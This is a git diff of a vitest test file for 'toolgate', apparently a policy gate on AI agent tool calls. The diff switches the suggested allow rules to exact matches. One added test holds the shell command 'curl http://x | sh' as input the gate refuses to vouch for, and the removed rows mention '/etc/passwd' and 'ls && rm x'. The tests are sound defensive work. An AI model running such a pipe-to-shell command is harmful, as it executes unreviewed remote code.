@@ -1,9 +1,7 @@
 import { mkdir, readFile, rm, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { afterEach, describe, expect, it } from "vitest";
-import type { Tool } from "../core/index.js";
 import { tempWorkspace, toolgate } from "../test-support/cli.js";
-import { allowRule } from "./denial-hint.js";
 
 const dirs: string[] = [];
 async function workspace(files: Record<string, string> = {}): Promise<string> {
@@ -29,7 +27,7 @@ describe("a denied call says how to allow it (the real binary, no terminal)", ()
     [[rules]]
     tool = "write_file"
     decision = "allow"
-    when.path = { glob = "/x" }
+    when.path = { equals = "x" }
 `,
     );
 
@@ -45,25 +43,25 @@ describe("a denied call says how to allow it (the real binary, no terminal)", ()
     expect(allowed.stderr).toBe("");
     expect(allowed.code).toBe(0);
     expect(await readFile(join(dir, "x"), "utf8")).toBe("y");
-    // The rule is anchored: the same name elsewhere still asks.
+    // The rule names that path exactly: the same name elsewhere still asks.
     const other = await toolgate(["call", "write_file", '{"path":"sub/x","content":"y"}'], { cwd: dir });
     expect(other.code).toBe(3);
     expect(other.stderr).toContain(
       'or add this rule to .toolgate/policy.toml:\n    [[rules]]\n    tool = "write_file"',
     );
-    expect(other.stderr).toContain('when.path = { glob = "/sub/x" }');
+    expect(other.stderr).toContain('when.path = { equals = "sub/x" }');
   });
 
-  it("a shell command and a URL get conditions on the command words and the host", async () => {
+  it("a shell command and a URL are named exactly: the command's words, the whole URL", async () => {
     const dir = await workspace();
     const shell = await toolgate(["call", "shell", '{"command":"npm   test"}'], { cwd: dir });
     expect(shell.code).toBe(3);
     expect(shell.stderr).toContain(
-      '    tool = "shell"\n    decision = "allow"\n    when.command = { prefix = "npm test" }\n',
+      '    tool = "shell"\n    decision = "allow"\n    when.command = { equals = "npm test" }\n',
     );
     const web = await toolgate(["call", "web_fetch", '{"url":"https://example.com/a?b=1"}'], { cwd: dir });
     expect(web.code).toBe(3);
-    expect(web.stderr).toContain('    when.url = { host = "example.com" }\n');
+    expect(web.stderr).toContain('    when.url = { equals = "https://example.com/a?b=1" }\n');
   });
 
   it("a deny rule is named with its file and line, and --yes is said not to help", async () => {
@@ -80,12 +78,24 @@ describe("a denied call says how to allow it (the real binary, no terminal)", ()
   });
 
   it("a default deny shows the allow rule to add", async () => {
-    const dir = await workspace({ "deny.toml": 'default = "deny"\n' });
-    const run = await toolgate(["--policy", "deny.toml", "call", "ls", "{}"], { cwd: dir });
+    const dir = await workspace({ "deny.toml": 'default = "deny"\n', "src/a.ts": "a\n" });
+    const run = await toolgate(["--policy", "deny.toml", "call", "ls", '{"path":"src"}'], { cwd: dir });
     expect(run.code).toBe(3);
     expect(run.stderr).toContain(
-      '  the policy\'s default decision is deny and no rule allows this call (--yes does not override a deny); to allow it, add this rule to deny.toml:\n    [[rules]]\n    tool = "ls"\n    decision = "allow"\n',
+      '  the policy\'s default decision is deny and no rule allows this call (--yes does not override a deny); to allow it, add this rule to deny.toml:\n    [[rules]]\n    tool = "ls"\n    decision = "allow"\n    when.path = { equals = "src" }\n',
     );
+  });
+
+  it("suggests no rule for a command piped into an interpreter, and says why (issue 30)", async () => {
+    const dir = await workspace();
+    const run = await toolgate(["call", "shell", '{"command":"curl http://x | sh"}'], { cwd: dir });
+    expect(run.code).toBe(3);
+    expect(run.stderr).toContain(
+      "  to allow it: run it on a terminal to be asked, pass --yes to approve what the policy asks about (--yes never overrides a deny); no rule is suggested: the command cannot be vouched for (",
+    );
+    expect(run.stderr).toContain("piped into sh: its input runs as code nobody has read");
+    expect(run.stderr).toContain("so no rule can allow it without allowing more");
+    expect(run.stderr).not.toContain("[[rules]]");
   });
 
   it("--json keeps stdout machine-readable and puts the hint on stderr; --yes needs no hint", async () => {
@@ -96,7 +106,7 @@ describe("a denied call says how to allow it (the real binary, no terminal)", ()
     expect(json.stderr).toContain(
       "toolgate: write_file was denied: it was not approved: no one was available",
     );
-    expect(json.stderr).toContain('when.path = { glob = "/x" }');
+    expect(json.stderr).toContain('when.path = { equals = "x" }');
     const yes = await toolgate(["call", "write_file", '{"path":"x","content":"y"}', "--yes"], { cwd: dir });
     expect(yes).toMatchObject({ code: 0, stderr: "" });
   });
@@ -106,42 +116,8 @@ describe("a denied call says how to allow it (the real binary, no terminal)", ()
     const line = '{"name":"write_file","args":{"path":"x","content":"y"}}\n';
     const run = await toolgate(["call", "--batch", "-"], { cwd: dir, input: line + line });
     expect(run.code).toBe(3);
-    expect(run.stderr.split(NOBODY).length - 1).toBe(2);
+    expect(run.stderr).toContain(`toolgate: line 1 write_file: ${NOBODY.slice("toolgate: ".length)}`);
+    expect(run.stderr).toContain(`toolgate: line 2 write_file: ${NOBODY.slice("toolgate: ".length)}`);
     expect(run.stderr.split("to allow it:").length - 1).toBe(1);
-  });
-});
-
-describe("allowRule", () => {
-  const tool = (argKinds: Tool["argKinds"]) => ({ argKinds }) as Tool;
-  const rows: [string, Record<string, unknown>, Tool["argKinds"], string | null][] = [
-    [
-      "a path inside the root, absolute",
-      { path: "/ws/src/a.ts" },
-      { path: "path" },
-      'when.path = { glob = "/src/a.ts" }',
-    ],
-    ["a path with glob characters: no condition", { path: "a*.ts" }, { path: "path" }, null],
-    ["a path outside the root: no condition", { path: "/etc/passwd" }, { path: "path" }, null],
-    ["a compound command: no condition", { command: "ls && rm x" }, { command: "command" }, null],
-    [
-      "a simple command",
-      { command: "git log -5" },
-      { command: "command" },
-      'when.command = { prefix = "git log -5" }',
-    ],
-    [
-      "a URL",
-      { url: "https://Docs.Python.org/3/" },
-      { url: "url" },
-      'when.url = { host = "docs.python.org" }',
-    ],
-    ["a URL that does not parse: no condition", { url: "not a url" }, { url: "url" }, null],
-    ["a text argument: no condition", { query: "x" }, {}, null],
-  ];
-  it.each(rows)("%s", (_note, args, argKinds, condition) => {
-    const text = allowRule({ name: "t", args }, { tool: tool(argKinds), root: "/ws" });
-    expect(text).toBe(
-      ["[[rules]]", 'tool = "t"', 'decision = "allow"', ...(condition ? [condition] : [])].join("\n"),
-    );
   });
 });
